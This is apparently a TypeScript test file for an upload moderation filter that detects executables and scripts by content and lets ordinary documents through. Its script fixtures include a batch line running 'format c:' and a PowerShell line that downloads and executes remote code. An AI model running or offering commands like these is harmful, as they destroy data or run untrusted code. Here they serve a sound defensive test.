import { describe, expect, it } from 'vitest';
import { executablesAndScripts, type UploadedFile } from './moderation';
import { detectType } from './sniff';

async function banned(content: string | Buffer): Promise<boolean> {
  const head = typeof content === 'string' ? Buffer.from(content) : content;
  const file: UploadedFile = {
    kind: 'file',
    fileName: 'x',
    size: head.length,
    head,
    detected: await detectType(head),
    sha256: '',
  };
  return executablesAndScripts.isBanned(file);
}

describe('the default file moderation', () => {
  it('bans programs by their content, whatever they are called', async () => {
    const pe = Buffer.alloc(512);
    pe.write('MZ', 0, 'latin1');
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write('PE\0\0', 0x80, 'latin1');
    expect(await banned(pe)).toBe(true);
    expect(await banned(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...Buffer.alloc(120)]))).toBe(true);
    expect(await banned(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, ...Buffer.alloc(60)]))).toBe(true);
  });

  it('bans scripts: shebang, batch, PowerShell, VBScript', async () => {
    expect(await banned('#!/usr/bin/env python3\nprint(1)\n')).toBe(true);
    expect(await banned('\uFEFF@ECHO OFF\r\nformat c:\r\n')).toBe(true);
    expect(await banned('$x = 1\nInvoke-Expression (New-Object Net.WebClient).DownloadString("http://x")\n')).toBe(
      true,
    );
    expect(await banned('Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n')).toBe(true);
  });

  it('lets ordinary documents through, even ones that start with MZ or mention echo', async () => {
    expect(await banned('MZ Logistics price list 2026\nitem,price\n')).toBe(false);
    expect(await banned('Meeting notes: the echo in room 3 is off.\n')).toBe(false);
    expect(await banned('%PDF-1.7\n%âãÏÓ\n1 0 obj\n')).toBe(false);
  });
});
